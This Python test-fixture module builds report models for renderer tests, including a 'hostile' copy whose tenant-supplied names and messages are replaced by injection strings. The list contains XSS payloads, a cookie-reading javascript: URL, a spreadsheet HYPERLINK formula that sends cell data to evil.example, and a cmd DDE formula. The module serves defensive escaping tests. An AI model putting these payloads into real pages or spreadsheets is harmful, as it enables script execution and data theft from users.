"""Report models for renderer tests: the tiny tenant's model, and a hostile copy of it.

`fixtures/tiny-model.json` is `build_report` of the simulator's tiny tenant (seed 7) after
`auditor analyze`; the renderers only format a model, so their tests need no store. The
`*_model` functions give the JSON document (to edit in a test), `*_report` the typed
`Report` the renderers take; `report(document)` turns an edited document into one.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

from auditor.report.document import Report

FIXTURE = Path(__file__).parent / "fixtures" / "tiny-model.json"

# Strings a tenant can put in names and messages, and must never act in a report.
HOSTILE = (
    "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(document.cookie)",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading return",
    "ctrl \x00\x07\x1b[31m chars",
    "| pipe | and `code` and [link](javascript:alert(1)) and *stars*",
    "]]> </svg></html> {{ 7*7 }} {% raw %}",
)


def tiny_model() -> dict[str, Any]:
    """A fresh copy of the tiny tenant's report model."""
    model: dict[str, Any] = json.loads(FIXTURE.read_text(encoding="utf-8"))
    return model


def hostile_model() -> dict[str, Any]:
    """The tiny model with every tenant-controlled text replaced by hostile strings."""
    model = copy.deepcopy(tiny_model())
    n = len(HOSTILE)
    for i, env in enumerate(model["scan"]["environments"]):
        env["name"] = HOSTILE[i % n]
    for i, finding in enumerate(model["findings"]):
        finding["resource_name"] = HOSTILE[i % n]
        finding["environment"] = HOSTILE[(i + 1) % n]
        finding["message"] = f"{HOSTILE[(i + 2) % n]} message"
        finding["evidence"] = [{"name": HOSTILE[(i + 3) % n], "value": HOSTILE[(i + 4) % n]}]
    for answer in model["answers"]:
        answer["reasons"] = [f"{h} reason" for h in HOSTILE]
        for env in answer["environments"]:
            env["environment"] = HOSTILE[0]
            env["reasons"] = list(HOSTILE)
    for chart in model["charts"].values():
        for i, row in enumerate(chart):
            for key in ("name", "environment", "day"):
                if key in row:
                    row[key] = HOSTILE[i % n]
    return model


def report(document: dict[str, Any]) -> Report:
    """The typed report of a (possibly edited) JSON document."""
    return Report.from_json(document)


def tiny_report() -> Report:
    """The tiny tenant's typed report."""
    return report(tiny_model())


def hostile_report() -> Report:
    """The hostile copy's typed report."""
    return report(hostile_model())
